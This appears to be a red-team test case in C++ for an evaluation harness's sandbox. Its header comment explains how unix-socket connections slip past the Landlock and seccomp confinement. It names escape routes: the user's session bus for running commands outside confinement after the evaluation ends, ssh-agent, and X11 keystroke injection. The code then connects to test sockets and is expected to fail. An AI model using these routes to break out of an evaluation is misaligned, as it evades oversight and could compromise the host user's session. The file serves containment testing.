// ATTACK (round 16, helper-redteam16, against e06553f; containment: talking
// to services outside the evaluation). Landlock (containment.cc
// ConfineWrites) has no right for connect() on a unix socket (a named
// socket is connected to, not written), abstract names are not scoped
// (LANDLOCK_SCOPE_ABSTRACT_UNIX_SOCKET, ABI >= 6, is not asked for), and the
// seccomp filter lets AF_UNIX sockets through ("a host kernel needs none"
// of the others). So a candidate rank can connect to any unix socket its
// uid may: in a bare launch by a plain user that is the user's session bus
// (/run/user/<uid>/bus: systemd --user starts a transient unit running any
// command, outside every confinement, outliving the evaluation), an agent
// socket (ssh-agent), a desktop's X11 socket (@/tmp/.X11-unix/X0:
// keystrokes into other windows), a container runtime's socket. This VM has
// none of those, so the test stands one up: a listening socket at a path
// outside the writable folders (mode 0777, as /run/user/<uid>/bus is 0666
// and authenticates by uid) and one at an abstract name, both named in
// $PKF_REDTEAM_DIR/svc.path; rank 0 connects to each and sends one line.
// Gated: outputs are written only if rank 0 reached at least one of them.
// EXPECT: WRONG_OUTPUT (no socket of the candidate's reaches anything
// outside its own process tree), and the test's services hear nothing.
#include <sys/socket.h>
#include <sys/un.h>

#include "kernels/testdata/redteam/redteam.h"

static bool Send(const std::string& name, bool abstract) {
  const int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (s < 0) {
    rt_log("socket(AF_UNIX): %s", strerror(errno));
    return false;
  }
  sockaddr_un a{};
  a.sun_family = AF_UNIX;
  socklen_t len;
  if (abstract) {
    a.sun_path[0] = 0;
    snprintf(a.sun_path + 1, sizeof a.sun_path - 1, "%s", name.c_str());
    len = (socklen_t)(offsetof(sockaddr_un, sun_path) + 1 + name.size());
  } else {
    snprintf(a.sun_path, sizeof a.sun_path, "%s", name.c_str());
    len = sizeof a;
  }
  bool ok = connect(s, (sockaddr*)&a, len) == 0;
  const int err = errno;
  if (ok) {
    char line[128];
    const int n = snprintf(line, sizeof line, "r16_unix_connect from uid %d pid %d\n",
                           (int)getuid(), (int)getpid());
    ok = write(s, line, (size_t)n) == n;
  }
  rt_log("connect %s%s: %s", abstract ? "@" : "", name.c_str(), ok ? "sent" : strerror(err));
  close(s);
  return ok;
}

static bool Attack(pkf_context* ctx) {
  if (ctx->rank != 0) return true;  // rank 0 decides (gated through the signal pads)
  const char* dir = getenv("PKF_REDTEAM_DIR");
  if (dir == NULL) return false;
  const std::string spec = rt_read(std::string(dir) + "/svc.path");
  const size_t nl = spec.find('\n');
  if (nl == std::string::npos) return false;
  const std::string path = spec.substr(0, nl);
  std::string abstract = spec.substr(nl + 1);
  while (!abstract.empty() && abstract.back() == '\n') abstract.pop_back();
  const bool a = Send(path, false);
  const bool b = !abstract.empty() && Send(abstract, true);
  return a || b;
}

RT_GATED_CANDIDATE(Attack)
